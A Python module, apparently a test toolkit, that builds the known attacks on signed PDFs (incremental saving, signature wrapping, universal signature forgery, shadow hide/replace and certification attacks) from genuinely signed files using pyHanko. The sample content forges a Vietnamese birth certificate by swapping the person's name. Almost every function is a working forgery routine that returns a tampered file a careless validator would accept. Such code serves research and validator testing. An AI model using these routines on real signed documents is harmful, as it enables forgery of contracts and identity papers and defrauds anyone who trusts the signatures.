"""The known attacks on signed PDFs (pdf-insecurity.org), made in code from real signed
files: incremental saving (ISA), signature wrapping (SWA), universal signature forgery
(USF), shadow attacks (hide, replace, hide-and-replace) and certification (DocMDP)
attacks (evil annotation, sneaky signature).

Each function takes the bytes an honest signer produced and returns what an attacker
would hand over.  The shadow attacks start earlier: ``shadow_prepared`` is the document
the attacker gives the victim to sign, with the material for the later change inside.
"""

from __future__ import annotations

import hashlib
import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, SigSeedSubFilter, append_signature_field
from pyhanko.sign.signers.pdf_cms import Signer

# -- helpers ---------------------------------------------------------------------------


def _byte_range(signed: bytes) -> tuple[int, tuple[int, int, int, int]]:
    """Where the last ``/ByteRange [...]`` starts and its four numbers."""
    match = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed))[-1]
    a, b, c, d = (int(x) for x in match.groups())
    return match.start(), (a, b, c, d)


def _same_length(original: bytes, replacement: bytes) -> bytes:
    """``replacement`` padded with spaces to the length of ``original``, so every
    offset in the file (xref, ByteRange) stays where it was."""
    assert len(replacement) <= len(original), (replacement, original)
    return replacement + b" " * (len(original) - len(replacement))


def _splice(data: bytes, start: int, old: bytes, new: bytes) -> bytes:
    assert data[start : start + len(old)] == old
    return data[:start] + _same_length(old, new) + data[start + len(old) :]


def _contents_span(signed: bytes) -> tuple[int, int]:
    """The gap of the last signature: ``<hex>`` of its /Contents."""
    _, (_, b, c, _) = _byte_range(signed)
    return b, c


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_content_ref(signed: bytes) -> generic.Reference:
    reader = PdfFileReader(BytesIO(signed), strict=False)
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    assert isinstance(contents, generic.IndirectObject)
    return contents.reference


def _trailer_fields(signed: bytes) -> tuple[int, int, bytes]:
    """``(size, startxref, root reference)`` of the last revision (classic or stream)."""
    reader = PdfFileReader(BytesIO(signed), strict=False)
    size = int(reader.trailer["/Size"])
    startxref = int(signed[signed.rindex(b"startxref") + 9 :].split()[0])
    root = reader.trailer.raw_get("/Root")
    return size, startxref, b"%d %d R" % (root.idnum, root.generation)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


FORGED = b"BT /F1 14 Tf 56 780 Td (Giay khai sinh: NGUOI KHAC - FORGED) Tj ET"


# -- incremental saving attack (ISA) -----------------------------------------------------


def isa_objects_without_xref(signed: bytes) -> bytes:
    """New page content appended after ``%%EOF`` as a bare object, with no xref section
    and no trailer: viewers that repair files (scan for ``N 0 obj``) show it."""
    ref = _page_content_ref(signed)
    body = b"%d %d obj\n" % (ref.idnum, ref.generation) + _stream(FORGED) + b"\nendobj\n"
    return signed + b"\n" + body


def isa_xref_without_trailer(signed: bytes) -> bytes:
    """The redefined page content with an xref section but no trailer dictionary."""
    ref = _page_content_ref(signed)
    at = len(signed) + 1
    body = b"%d %d obj\n" % (ref.idnum, ref.generation) + _stream(FORGED) + b"\nendobj\n"
    xref = at + len(body)
    tail = b"xref\n%d 1\n%010d %05d n \nstartxref\n%d\n%%%%EOF\n" % (
        ref.idnum,
        at,
        ref.generation,
        xref,
    )
    return signed + b"\n" + body + tail


def isa_full_revision(signed: bytes) -> bytes:
    """A well-formed incremental update (body, xref, trailer with ``/Prev``) that
    redefines the page's content stream: the classic ISA."""
    ref = _page_content_ref(signed)
    size, prev, root = _trailer_fields(signed)
    at = len(signed) + 1
    body = b"%d %d obj\n" % (ref.idnum, ref.generation) + _stream(FORGED) + b"\nendobj\n"
    xref = at + len(body)
    tail = (
        b"xref\n%d 1\n%010d %05d n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (ref.idnum, at, ref.generation, size, root, prev, xref)
    )
    return signed + b"\n" + body + tail


def isa_byte_range_stretched(signed: bytes) -> bytes:
    """The classic ISA, and the signature's /ByteRange rewritten (same length) to
    claim it covers the whole new file."""
    attacked = isa_full_revision(signed)
    start, (a, b, c, _) = _byte_range(attacked)
    old = re.match(rb"/ByteRange\s*\[[^\]]*\] *", attacked[start:])
    assert old is not None
    new = b"/ByteRange [%d %d %d %d]" % (a, b, c, len(attacked) - c)
    return _splice(attacked, start, old.group(0), new)


# -- signature wrapping attack (SWA) -----------------------------------------------------


def swa_relocated_second_part(signed: bytes) -> bytes:
    """The second signed part moved to the end of the file, the malicious object and a
    new xref (re-listing the moved objects at their new offsets) put in the room that
    opens after /Contents, and /ByteRange pointed at the moved part."""
    start, (a, b, c, d) = _byte_range(signed)
    ref = _page_content_ref(signed)
    size, prev, root = _trailer_fields(signed)
    first, gap, second = signed[:b], signed[b:c], signed[c : c + d]
    obj_at = b + len(gap) + 1
    body = b"%d %d obj\n" % (ref.idnum, ref.generation) + _stream(FORGED) + b"\nendobj\n"
    moved = [
        (int(m.group(1)), int(m.group(2)), m.start())
        for m in re.finditer(rb"(?m)^(\d+) (\d+) obj", second)
        if int(m.group(1)) != ref.idnum
    ]
    xref_at = obj_at + len(body)

    def table(new_c: int) -> bytes:
        rows = b"%d 1\n%010d %05d n \n" % (ref.idnum, obj_at, ref.generation)
        for number, generation, offset in moved:
            rows += b"%d 1\n%010d %05d n \n" % (number, new_c + offset, generation)
        return (
            b"xref\n"
            + rows
            + b"trailer\n<< /Size %d /Root %s /Prev %010d >>\n"
            % (
                size,
                root,
                new_c + prev - c,
            )
        )

    # Note: the table's length depends on new_c only through fixed-width fields.
    new_c = xref_at + len(table(0))
    wrapped = b"\n" + body + table(new_c)
    assert b + len(gap) + len(wrapped) == new_c
    old = re.match(rb"/ByteRange\s*\[[^\]]*\] *", signed[start:])
    assert old is not None
    rel = start - c
    second = (
        second[:rel]
        + _same_length(old.group(0), b"/ByteRange [%d %d %d %d]" % (a, b, new_c, d))
        + second[rel + len(old.group(0)) :]
    )
    return first + gap + wrapped + second + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at


def swa_object_in_gap(signed: bytes) -> bytes:
    """The /Contents hex string cut short (its zero padding) and an object smuggled into
    the unsigned gap behind it; the ByteRange and every signed byte are untouched."""
    b, c = _contents_span(signed)
    gap = signed[b:c]
    hexdigits = gap[1:-1].rstrip(b"0")
    hexdigits += b"0" * (len(hexdigits) % 2)
    ref = _page_content_ref(signed)
    smuggled = (
        b"<"
        + hexdigits
        + b">\n%d %d obj\n" % (ref.idnum, ref.generation)
        + _stream(FORGED)
        + b"\nendobj\n"
    )
    return signed[:b] + _same_length(gap, smuggled) + signed[c:]


def swa_object_in_gap_comment(signed: bytes) -> bytes:
    """As ``swa_object_in_gap``, the smuggled object behind ``%`` so that a strict
    parser reads it as a comment while a repairing one may still find ``N 0 obj``."""
    b, c = _contents_span(signed)
    gap = signed[b:c]
    hexdigits = gap[1:-1].rstrip(b"0")
    hexdigits += b"0" * (len(hexdigits) % 2)
    ref = _page_content_ref(signed)
    smuggled = (
        b"<"
        + hexdigits
        + b"> %% %d %d obj << /Length %d >> stream %s endstream endobj"
        % (
            ref.idnum,
            ref.generation,
            len(FORGED),
            FORGED,
        )
    )
    return signed[:b] + _same_length(gap, smuggled) + signed[c:]


# -- universal signature forgery (USF) ---------------------------------------------------

_USF_CONTENTS = {
    "contents_zeroed": None,
    "contents_odd_length": None,
    "contents_not_cms": None,
    "contents_empty": b"<>",
    "contents_null": b"null",
    "contents_removed": None,
}

_USF_BYTE_RANGE = {
    "byte_range_empty": b"/ByteRange []",
    "byte_range_null": b"/ByteRange null",
    "byte_range_zeros": b"/ByteRange [0 0 0 0]",
    "byte_range_negative": b"/ByteRange [0 -1 -1 -1]",
    "byte_range_past_eof": None,
    "byte_range_three_numbers": None,
    "byte_range_removed": None,
}

USF_VARIANTS = tuple(_USF_CONTENTS) + tuple(_USF_BYTE_RANGE)


def usf(signed: bytes, variant: str) -> bytes:
    """The signature dictionary of the last signature edited in place (every offset
    kept) so that a careless validator skips the cryptographic check, together with a
    full-revision ISA so the forgery is worth something."""
    if variant in _USF_CONTENTS:
        b, c = _contents_span(signed)
        gap = signed[b:c]
        key_at = signed.rindex(b"/Contents", 0, b)
        if variant == "contents_zeroed":
            new_gap = b"<" + b"0" * (len(gap) - 2) + b">"
            forged = signed[:b] + new_gap + signed[c:]
        elif variant == "contents_odd_length":
            forged = signed[:b] + _same_length(gap, gap[:-2] + b">") + signed[c:]
        elif variant == "contents_not_cms":
            noise = hashlib.sha256(gap).hexdigest().encode() * (len(gap) // 64 + 1)
            forged = signed[:b] + b"<" + noise[: len(gap) - 2] + b">" + signed[c:]
        elif variant == "contents_removed":
            forged = signed[:key_at] + b"/Contentz" + signed[key_at + 9 :]
        else:
            replacement = _USF_CONTENTS[variant]
            assert replacement is not None
            forged = signed[:b] + _same_length(gap, replacement) + signed[c:]
        return isa_full_revision(forged)
    start, (a, b, c, d) = _byte_range(signed)
    old = re.match(rb"/ByteRange\s*\[[^\]]*\] *", signed[start:])
    assert old is not None
    new = _USF_BYTE_RANGE[variant]
    if variant == "byte_range_past_eof":
        new = b"/ByteRange [%d %d %d %d]" % (a, b, c, d + 100_000)
    elif variant == "byte_range_three_numbers":
        new = b"/ByteRange [%d %d %d]" % (a, b, c)
    elif variant == "byte_range_removed":
        new = b"/ByteRangX" + old.group(0)[len(b"/ByteRange") :]
    assert new is not None
    return isa_full_revision(_splice(signed, start, old.group(0), new))


# -- shadow attacks ----------------------------------------------------------------------


def _assemble(objects: list[bytes], *, root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


HONEST = b"BT /F1 14 Tf 56 780 Td (Giay khai sinh: Nguyen Van A) Tj ET"
COVER = b"1 1 1 rg 0 0 595 842 re f BT 0 0 0 rg /F1 14 Tf 56 780 Td (Giay khai sinh: Nguyen Van A) Tj ET"
HIDDEN = b"BT /F1 14 Tf 56 780 Td (Giay khai sinh: Tran Thi B) Tj ET"

# objects of the prepared document: 1 catalog, 2 pages, 3 page, 4 hidden text, 5 cover,
# 6 font, 7 second catalog, 8 second pages, 9 second page, 10 text field widget,
# 11 AcroForm
_SHADOW_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R /AcroForm 11 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
    b"/Resources << /Font << /F1 6 0 R >> >> /Contents [4 0 R 5 0 R] /Annots [10 0 R] >>",
    _stream(HIDDEN),
    _stream(COVER),
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    b"<< /Type /Catalog /Pages 8 0 R /AcroForm 11 0 R >>",
    b"<< /Type /Pages /Kids [9 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 8 0 R /MediaBox [0 0 595 842] "
    b"/Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R >>",
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ghi_chu) /F 4 /P 3 0 R "
    b"/Rect [50 770 545 800] /DA (/Helv 14 Tf 0 g) /MK << >> >>",
    b"<< /Fields [10 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>",
]


def shadow_prepared() -> bytes:
    """What the attacker hands the victim to sign: a page whose visible text (object 5,
    an opaque cover) hides other text (object 4); a second, unused catalog (7) and page
    tree whose page shows the hidden text; an empty, borderless text field over the
    line."""
    return _assemble(_SHADOW_OBJECTS)


def _revision(
    signed: bytes,
    objects: dict[int, bytes],
    *,
    root: bytes | None = None,
    free: tuple[int, ...] = (),
) -> bytes:
    """A hand-written incremental update: ``objects`` (number -> body) redefined,
    ``free`` numbers marked free, optionally a new ``/Root``."""
    size, prev, old_root = _trailer_fields(signed)
    out = bytearray(signed + b"\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for number in sorted({*offsets, *free}):
        if number in offsets:
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
        else:
            out += b"%d 1\n0000000000 00001 f \n" % number
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root or old_root,
        prev,
        xref,
    )
    return bytes(out)


def shadow_hide_by_overwrite(signed: bytes) -> bytes:
    """Hide: the cover (object 5) redefined as an empty stream in an update, so the
    text behind it shows."""
    return _revision(signed, {5: _stream(b"")})


def shadow_hide_by_freeing(signed: bytes) -> bytes:
    """Hide: an update that writes no object at all, only an xref marking the cover
    (object 5) free, so its reference resolves to null."""
    return _revision(signed, {}, free=(5,))


def shadow_replace_font(signed: bytes) -> bytes:
    """Replace: the font redefined (object 6) with an encoding whose glyphs draw other
    characters for the same codes."""
    font = (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding "
        b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding "
        b"/Differences [78 /T 103 /r 117 /a 121 /n] >> >>"
    )
    return _revision(signed, {6: font})


def shadow_replace_by_form_filling(signed: bytes) -> bytes:
    """Replace via overlay: the empty text field over the line filled in with an opaque
    appearance that shows other text - ordinary form filling, signed by nobody."""
    reader = PdfFileReader(BytesIO(signed), strict=False)
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    fields = writer.root["/AcroForm"]["/Fields"]
    widget_ref = None
    for ref in fields:
        field = ref.get_object()
        if field.get("/T") == "ghi_chu":
            widget_ref = ref
    assert widget_ref is not None, reader.root
    widget = widget_ref.get_object()
    appearance = generic.StreamObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
            generic.pdf_name("/BBox"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (0, 0, 495, 30)]
            ),
            generic.pdf_name("/Resources"): generic.DictionaryObject(
                {
                    generic.pdf_name("/Font"): generic.DictionaryObject(
                        {
                            generic.pdf_name("/Helv"): writer.root["/AcroForm"]["/DR"][
                                "/Font"
                            ].raw_get("/Helv")
                        }
                    )
                }
            ),
        },
        stream_data=b"/Tx BMC 1 1 1 rg 0 0 495 30 re f BT 0 0 0 rg /Helv 14 Tf 6 10 Td "
        b"(Giay khai sinh: Tran Thi B) Tj ET EMC",
    )
    widget["/V"] = generic.TextStringObject("Giay khai sinh: Tran Thi B")
    widget["/AP"] = generic.DictionaryObject(
        {generic.pdf_name("/N"): writer.add_object(appearance)}
    )
    writer.update_container(widget)
    return _write(writer)


def shadow_hide_and_replace_root(signed: bytes) -> bytes:
    """Hide-and-replace: an update that only points the trailer's /Root at the second
    catalog already inside the signed bytes."""
    reader = PdfFileReader(BytesIO(signed), strict=False)
    pages = reader.get_object(generic.Reference(8, 0))
    assert pages["/Type"] == "/Pages"
    return _revision(signed, {8: b"<< /Type /Pages /Kids [9 0 R] /Count 1 >>"}, root=b"7 0 R")


def shadow_hide_and_replace_pages(signed: bytes) -> bytes:
    """Hide-and-replace: the catalog redefined with /Pages pointing at the second page
    tree (kept otherwise, so the signature field is still found)."""
    reader = PdfFileReader(BytesIO(signed), strict=False)
    acroform = reader.root.raw_get("/AcroForm")
    catalog = b"<< /Type /Catalog /Pages 8 0 R /AcroForm %d %d R >>" % (
        acroform.idnum,
        acroform.generation,
    )
    return _revision(signed, {1: catalog})


# -- certification attacks ---------------------------------------------------------------


def evil_annotation(signed: bytes) -> bytes:
    """Evil annotation: a FreeText annotation (allowed by a P3 certification) drawn over
    the page with other text."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    appearance = generic.StreamObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
            generic.pdf_name("/BBox"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (0, 0, 495, 30)]
            ),
        },
        stream_data=b"1 1 1 rg 0 0 495 30 re f",
    )
    annot = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
            generic.pdf_name("/Rect"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (50, 770, 545, 800)]
            ),
            generic.pdf_name("/Contents"): generic.TextStringObject("Tran Thi B"),
            generic.pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            generic.pdf_name("/F"): generic.NumberObject(4),
            generic.pdf_name("/AP"): generic.DictionaryObject(
                {generic.pdf_name("/N"): writer.add_object(appearance)}
            ),
        }
    )
    annots = page.get("/Annots")
    ref = writer.add_object(annot)
    if annots is None:
        page["/Annots"] = generic.ArrayObject([ref])
    else:
        annots.append(ref)
    writer.update_container(page)
    return _write(writer)


async def certify(pdf: bytes, signer: Signer, permission: MDPPerm) -> bytes:
    """``pdf`` with a certification (DocMDP) signature allowing ``permission``."""
    meta = signers.PdfSignatureMetadata(
        field_name="Certification",
        md_algorithm="sha256",
        subfilter=SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=permission,
    )
    out = BytesIO()
    await signers.PdfSigner(meta, signer).async_sign_pdf(
        IncrementalPdfFileWriter(BytesIO(pdf)), output=out
    )
    return out.getvalue()


def empty_visible_signature_field(signed: bytes) -> bytes:
    """Sneaky signature, unsigned: a new visible signature field over the page's text."""
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    append_signature_field(
        writer, SigFieldSpec(sig_field_name="Sneaky", on_page=0, box=(50, 770, 545, 800))
    )
    return _write(writer)
